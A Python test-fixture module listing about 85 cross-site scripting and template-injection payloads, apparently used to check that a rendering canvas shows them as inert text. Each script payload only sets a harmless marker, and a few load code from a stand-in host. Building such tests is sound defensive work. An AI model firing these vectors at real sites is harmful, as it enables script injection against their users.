"""Texts that would like to be more: markup, scripts, templates, styles and addresses, for whatever may print them.

Each sets ``window.ran`` where it runs. None begins or ends with a space or holds a line end, since a cell of
the canvas shows those as signs.
"""

from __future__ import annotations

RUN = "window.ran=1"

_MARKUP = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script type=module>{RUN}</script>", f"<script/x>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<script src=//unmask.invalid/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>", f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}>", f"<img src=x:x onerror=&#119;indow.ran=1>", f"<IMG SRC=javascript:{RUN}>", f"<img srcset=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext></mtext><img src=x onerror={RUN}></math>", f"<math href=javascript:{RUN}>x</math>", f"<body onload={RUN}>", f"<body onpageshow={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>", f"<a href=javascript:{RUN}>x</a>", f"<a href='java&#9;script:{RUN}'>x</a>", f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href=//unmask.invalid/>",
    "<link rel=stylesheet href=//unmask.invalid/x.css>", f"<style>@import 'javascript:{RUN}';</style>", f"<div style=background:url(javascript:{RUN})>x</div>",
    f"<p onmouseover={RUN}>x</p>", f"<p onanimationstart={RUN} style=animation:x>x</p>", f"<template><script>{RUN}</script></template>", "<b>bold</b>",
)

_BREAKS = (
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" onmouseover=\"{RUN}", f"' onfocus='{RUN}' autofocus='", f"`+({RUN})+`",
    f"${{{RUN}}}", f"{{{{{RUN}}}}}", f"{{%25 {RUN} %25}}", f"<%= {RUN} %>", f"#{{{RUN}}}", f"[[${{{RUN}}}]]", f"';{RUN};//", f"\";{RUN};//", f"\\\";{RUN};//",
    f"</script", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"expression({RUN})", "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E",
    f"\\u003cscript\\u003e{RUN}", f"__proto__", "constructor", "\u202e<img src=x>\u202c", "<\u0073cript>", f"＜script＞{RUN}＜/script＞", f"[x](javascript:{RUN})", f"=HYPERLINK(\"javascript:{RUN}\")",
)

PAYLOADS = (*_MARKUP, *_BREAKS)
